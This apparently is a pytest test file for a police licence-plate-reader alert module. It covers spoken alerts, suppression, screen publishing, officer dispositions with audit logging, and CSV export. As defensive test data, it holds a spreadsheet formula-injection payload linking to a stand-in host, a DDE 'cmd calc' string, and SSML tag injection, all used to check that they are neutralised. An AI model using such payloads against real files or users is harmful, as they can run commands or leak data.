"""Alerts: the words an officer hears, the WAV, one alert per vehicle, the in-car screen, dispositions."""

import json
import shutil
import uuid
import wave
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge_agent.alert import Alerter, AlertSuppressor, SpokenAlerts, alert_message, speakable, spell_plate
from edge_agent.config import AlertConfig, SyncConfig
from edge_agent.records import Candidate, Hit, PlateReading, Read
from edge_agent.store import Database
from conftest import LOGIN, Subscriber, run_cli


def _read(text: str = "7ABC123", hits=()) -> Read:
    reading = PlateReading(text, 0.99, (0, 0, 10, 5), (Candidate(text, 0.99),), "CA", 1.0)
    return Read(str(uuid.uuid4()), datetime.now(timezone.utc), "front", reading, hits=list(hits))


def test_message_uses_the_phonetic_alphabet_and_the_clets_reminder():
    hit = Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")
    assert alert_message(hit) == (
        "Stolen vehicle. California plate seven Adam Boy Charles one two three. Confirm through CLETS before acting."
    )
    assert alert_message(Hit("7ABC123", "CA", "STOLEN_VEHICLE", "misread")) == (
        "Stolen vehicle. California plate seven Adam Boy Charles one two three. Possible misread. "
        "Confirm through CLETS before acting."
    )
    assert alert_message(Hit("1XY", "NV", "AMBER_ALERT", "state-mismatch")).startswith(
        "Amber alert. Nevada plate one X-ray Young. Plate matches, state not confirmed.")
    described = Hit("7ABC123", "CA", "FELONY_VEHICLE", "exact", details={"colour": "SIL", "make": "HOND"})
    assert "plate seven Adam Boy Charles one two three. Silver Honda. Confirm" in alert_message(described)
    partial = Hit("7AB?12*", "", "FELONY_VEHICLE", "partial")
    assert alert_message(partial, "7ABX129").startswith("Felony vehicle. Plate seven Adam Boy X-ray one two nine. "
                                                        "Partial plate match.")
    assert spell_plate("O0") == "Ocean zero"


def test_alert_renders_tone_and_speech_to_a_wav(tmp_path: Path):
    if not shutil.which("espeak-ng"):
        pytest.fail("espeak-ng is not installed (scripts/setup installs it)")
    wav = SpokenAlerts(AlertConfig(), tmp_path).speak(alert_message(Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")), "a1")
    assert wav == tmp_path / "alerts" / "a1.wav"
    with wave.open(str(wav)) as w:
        seconds = w.getnframes() / w.getframerate()
        assert w.getnchannels() == 1 and w.getsampwidth() == 2
    assert seconds > 3.0  # half a second of tone, then several seconds of speech


@given(st.lists(st.tuples(st.sampled_from(["7ABC123", "8LMN905"]), st.sampled_from(["exact", "misread"]),
                          st.floats(0, 1000)), max_size=30))
def test_suppression_alerts_a_vehicle_once_per_window_unless_the_match_grows_stronger(events):
    suppressor = AlertSuppressor(300)
    last: dict[str, tuple[float, int]] = {}
    for plate, kind, now in sorted(events, key=lambda e: e[2]):
        strength = 0 if kind == "exact" else 3
        previous = last.get(plate)
        expected = previous is None or now - previous[0] >= 300 or strength < previous[1]
        assert suppressor.should_alert(Hit(plate, "CA", "STOLEN_VEHICLE", kind), now) == expected
        if expected:
            last[plate] = (now, strength)


def test_alerter_records_speaks_publishes_and_suppresses(tmp_path: Path, mosquitto):
    from edge_agent.alert.screen import ScreenPublisher

    screen = ScreenPublisher(SyncConfig(insecure=True), mosquitto.url, "alpr/v1/pd/car-7/alerts", "test-screen")
    tablet = Subscriber(mosquitto.port, "alpr/v1/pd/car-7/alerts")
    assert screen.connected.wait(5)
    db = Database.in_data_dir(tmp_path)
    alerter = Alerter(AlertConfig(), tmp_path, db, lambda hit: {"colour": "WHI", "make": "TOYT"}, screen)
    hits = [Hit("8LMN905", "CA", "AMBER_ALERT", "misread", nic="A1", entry_id=9),
            Hit("8LMN905", "CA", "STOLEN_PLATE", "exact", nic="S1", entry_id=10)]
    first = _read("8LMN905", hits)
    alert = alerter.on_read(first, db.insert_read(first), now=100.0)
    assert alert is not None and alert.hit.list_name == "AMBER_ALERT" and alert.priority == 1
    assert "White Toyota" in alert.text and "Possible misread" in alert.text
    assert alert.wav.exists() and "(+1 more hits)" in alert.line
    second = _read("8LMN905", hits)  # the rear camera sees the same car a second later
    assert alerter.on_read(second, db.insert_read(second), now=101.0) is None
    assert tablet.wait_for(lambda m: len(m) == 1)
    message = json.loads(tablet.messages[0][1])
    assert message["schema"] == "alpr.alert.v1" and message["alert_id"] == alert.id
    assert message["hit"]["list"] == "AMBER_ALERT" and message["other_hits"][0]["list"] == "STOLEN_PLATE"
    assert message["hit"]["details"]["make"] == "TOYT" and "CLETS" in message["clets_reminder"]
    rows = db.query("SELECT * FROM alerts")
    assert [(r["read_id"], r["list"], r["match"]) for r in rows] == [(first.id, "AMBER_ALERT", "misread")]
    assert db.stats().hits == 4  # both reads keep their hits; only the alert is suppressed
    tablet.close()
    screen.close()
    db.close()


def _one_alert(data_dir: Path):
    """A stolen-vehicle alert raised in the unit's database at data_dir: (its read, the alert)."""
    with Database.in_data_dir(data_dir) as db:
        alerter = Alerter(AlertConfig(speak=False), data_dir, db)
        read = _read("7ABC123", [Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")])
        return read, alerter.on_read(read, db.insert_read(read), now=0.0)


def test_officer_records_dispositions_from_the_command_line(tmp_path: Path, trained):
    data_dir = tmp_path / "data"
    read, alert = _one_alert(data_dir)
    trained(data_dir, ("ofc1", "officer"), ("tech", "technician"))
    ofc1 = ("--user", "ofc1", *LOGIN)
    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--open", "--json", *ofc1)
    assert json.loads(listed.out)["id"] == alert.id
    for bad, words in [(("--disposition", "arrested", *ofc1), "not one of confirmed, misread, not-located, clets-mismatch"),
                       (("--disposition", "confirmed", "--user", "tech", *LOGIN), "role technician may not"),
                       (("--disposition", "confirmed", "--user", "ofc1", "--purpose", " "), "no purpose given")]:
        result = run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, *bad)
        assert result.code == 2 and words in result.err
    missing = run_cli("--data-dir", data_dir, "alerts", "ack", 999, "--disposition", "misread", *ofc1)
    assert missing.code == 2 and "no alert 999" in missing.err
    acked = run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "confirmed", *ofc1,
                    "--note", "CLETS confirms stolen", "--json")
    assert acked.code == 0 and json.loads(acked.out)["disposition"] == "confirmed"
    assert run_cli("--data-dir", data_dir, "alerts", "list", "--open", *ofc1).out == ""
    with Database.in_data_dir(data_dir) as db:
        assert db.query("SELECT evidence_hold FROM reads WHERE id = ?", (read.id,))[0][0] == 1
        history = db.query("SELECT disposition, user, note FROM dispositions")
        assert [tuple(r) for r in history] == [("confirmed", "ofc1", "CLETS confirms stolen")]
        actions = [(r["user"], r["action"], r["purpose"]) for r in db.query(
            "SELECT user, action, purpose FROM audit_log WHERE user NOT IN ('admin', 'installer') AND action != 'login'"
            " ORDER BY id")]
    assert actions == [("ofc1", "alerts.list", "test patrol"), ("ofc1", "alerts.ack.refused", "test patrol"),
                       ("tech", "alerts.ack.refused", "test patrol"), ("ofc1", "login.refused", ""),
                       ("ofc1", "alerts.ack.refused", "test patrol"), ("ofc1", "alerts.ack", "test patrol"),
                       ("ofc1", "alerts.list", "test patrol")]


def test_alert_is_played_through_alsa_on_the_configured_device(tmp_path: Path):
    """ALSA's "null" device takes the WAV like a sound card would, so the real aplay path runs here."""
    if not shutil.which("aplay"):
        pytest.fail("aplay is not installed (scripts/setup installs alsa-utils)")
    spoken = SpokenAlerts(AlertConfig(audio_device="null"), tmp_path)
    wav = spoken.speak(alert_message(Hit("7ABC123", "CA", "STOLEN_VEHICLE", "exact")), "a2")
    assert spoken.playing is not None and spoken.playing.args[-1] == str(wav)
    assert spoken.playing.wait(30) == 0, spoken.playing.stderr.read()


def test_hotlist_text_reaches_speech_only_as_letters_digits_and_spaces():
    hostile = Hit("7ABC123", "X;Y", "<speak>EVIL</speak>", "exact",
                  details={"make": "=1+1 cmd|' /C calc'!A0", "colour": "@SUM(1)"})
    message = alert_message(hostile)
    assert message.startswith("Speak evil speak. X Y plate seven Adam Boy Charles one two three. ")
    assert "1 1 Cmd C Calc A0." in message
    assert not set(message) & set("=<>|'!@;()+")

    @given(st.text())
    def only_plain_words(text):
        out = speakable(text)
        assert all(c == " " or (c.isascii() and c.isalnum()) for c in out)
        assert out == out.strip() and "  " not in out

    only_plain_words()


def test_alerts_as_csv_never_hand_a_spreadsheet_a_formula(tmp_path: Path, trained):
    import csv
    import io

    from edge_agent.export import csv_cell

    data_dir = tmp_path / "data"
    _, alert = _one_alert(data_dir)
    trained(data_dir, ("ofc1", "officer"), ("clerk", "auditor"))
    note = '=HYPERLINK("http://x.example/?"&A1,"click")'
    assert run_cli("--data-dir", data_dir, "alerts", "ack", alert.id, "--disposition", "misread", "--user", "ofc1",
                   *LOGIN, "--note", note).code == 0
    listed = run_cli("--data-dir", data_dir, "alerts", "list", "--csv", "--user", "clerk", *LOGIN)
    assert listed.code == 0
    (row,) = list(csv.DictReader(io.StringIO(listed.out)))
    assert row["note"] == "'" + note and row["lic"] == "7ABC123" and row["disposition"] == "misread"
    assert row["message"].startswith("Stolen vehicle.")

    @given(st.text())
    def never_a_formula(text):
        cell = csv_cell(text)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell in (text, "'" + text)

    never_a_formula()


def test_the_wire_knows_the_same_dispositions_as_the_ledger():
    from edge_agent.alert.ledger import DISPOSITIONS
    from edge_agent.sync.payloads import BATCH_SCHEMA, schema

    assert tuple(schema(BATCH_SCHEMA)["definitions"]["disposition"]["properties"]["disposition"]["enum"]) == DISPOSITIONS


def test_dispositions_are_a_history_and_a_request_sent_twice_is_stored_once(tmp_path: Path, trained):
    import uuid

    from edge_agent.access import login
    from edge_agent.access.duties import list_alerts, record_disposition
    from conftest import TRAINED_PASSWORD

    data_dir = tmp_path / "data"
    _, alert = _one_alert(data_dir)
    trained(data_dir, ("ofc1", "officer"), ("sgt2", "supervisor"))
    with Database.in_data_dir(data_dir) as db:
        ofc1 = login(db, "ofc1", TRAINED_PASSWORD, "patrol")
        request = str(uuid.uuid4())
        first = record_disposition(db, ofc1, alert.id, "not-pursued", "priority call", request_id=request)
        again = record_disposition(db, ofc1, alert.id, "not-pursued", "priority call", request_id=request)
        assert (first["repeated"], again["repeated"], again["uuid"]) == (False, True, request)
        later = record_disposition(db, login(db, "sgt2", TRAINED_PASSWORD, "follow-up"), alert.id, "no-action")
        assert later["previous"] == "not-pursued"
        history = [tuple(r) for r in db.query("SELECT disposition, user FROM dispositions ORDER BY id")]
        assert history == [("not-pursued", "ofc1"), ("no-action", "sgt2")]
        [shown] = list_alerts(db, ofc1)
        assert (shown["disposition"], shown["disposition_by"]) == ("no-action", "sgt2")
        acks = db.query("SELECT COUNT(*) FROM audit_log WHERE action = 'alerts.ack'")[0][0]
        assert acks == 2  # the repeated request is not a second access either
